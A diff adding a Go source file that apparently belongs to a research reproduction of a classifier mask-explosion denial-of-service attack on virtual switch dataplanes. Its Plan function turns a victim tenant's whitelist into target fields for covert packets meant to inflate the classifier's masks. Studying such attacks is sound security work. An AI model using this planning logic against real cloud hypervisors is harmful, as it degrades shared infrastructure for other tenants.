@@ -1,0 +1,80 @@
+package attack
+
+import (
+	"fmt"
+	"net/netip"
+
+	"policyinject/internal/acl"
+	"policyinject/internal/flow"
+)
+
+// Reflected is the no-injection variant of the attack: instead of
+// installing her own ACL, the attacker exploits a *victim's* existing
+// whitelist by sending covert packets toward the victim's pods. Every
+// prefix the victim whitelists exposes its own ladder of divergence
+// depths, so the masks multiply exactly as in the injected attack — the
+// attacker only needs (a) the ability to send packets that reach the
+// victim's hypervisor port (they will all be denied, which is fine) and
+// (b) knowledge or a guess of the whitelisted values.
+//
+// This generalisation shows the vulnerability belongs to the *dataplane*,
+// not to the policy API: any tenant with an ordinary microsegmentation
+// policy hands every would-be sender a mask-minting oracle. Guessing
+// costs little: whitelists overwhelmingly name RFC1918 prefixes and
+// well-known ports, and overshooting merely wastes covert packets.
+type Reflected struct {
+	// VictimIP is the destination the covert stream is aimed at.
+	VictimIP netip.Addr
+	// Policy is the victim's (known or guessed) whitelist.
+	Policy []acl.Entry
+	// Proto is the covert stream protocol, default TCP.
+	Proto uint8
+}
+
+// Plan derives the equivalent field-targeted attack from the victim's
+// whitelist.
+//
+// The mask arithmetic follows the classifier's subtable structure: each
+// whitelist entry compiles to one subtable, and that subtable's trie
+// gates are checked in a fixed field order with short-circuiting — a
+// packet diverging at the first gated field never consults the rest. An
+// entry therefore contributes the full divergence ladder of its *first*
+// gated field only (ip_src before tp_src before tp_dst, the classifier's
+// gate order). Ladders from different entries combine multiplicatively,
+// exactly as in the injected attack — which is why "allow from X" plus
+// "allow to port Y" (two entries) is worth w₁·w₂ masks while the single
+// combined entry "allow from X to port Y" is worth only w₁. The paper's
+// attacker shapes her injected ACL accordingly; the reflected attacker
+// takes what the victim's policy shape offers.
+func (r *Reflected) Plan() (*Attack, error) {
+	if !r.VictimIP.IsValid() {
+		return nil, fmt.Errorf("attack: reflected plan needs the victim IP")
+	}
+	if len(r.Policy) == 0 {
+		return nil, fmt.Errorf("attack: reflected plan needs at least one whitelist entry")
+	}
+	atk := &Attack{DstIP: r.VictimIP, Proto: r.Proto}
+	seen := map[flow.FieldID]bool{}
+	addField := func(t TargetField) {
+		if !seen[t.Field] {
+			seen[t.Field] = true
+			atk.Fields = append(atk.Fields, t)
+		}
+	}
+	for _, e := range r.Policy {
+		// First gated field in classifier gate order wins the entry.
+		switch {
+		case e.Src.IsValid() && e.Src.Addr().Unmap().Is4():
+			p := e.Src.Masked()
+			addField(TargetField{Field: flow.FieldIPSrc, Allow: flow.V4(p.Addr()), Width: p.Bits()})
+		case !e.SrcPort.Any() && e.SrcPort.Exact():
+			addField(TargetField{Field: flow.FieldTPSrc, Allow: uint64(e.SrcPort.From)})
+		case !e.DstPort.Any() && e.DstPort.Exact():
+			addField(TargetField{Field: flow.FieldTPDst, Allow: uint64(e.DstPort.From)})
+		}
+	}
+	if len(atk.Fields) == 0 {
+		return nil, fmt.Errorf("attack: victim whitelist constrains no reflectable field")
+	}
+	return atk, atk.Validate()
+}
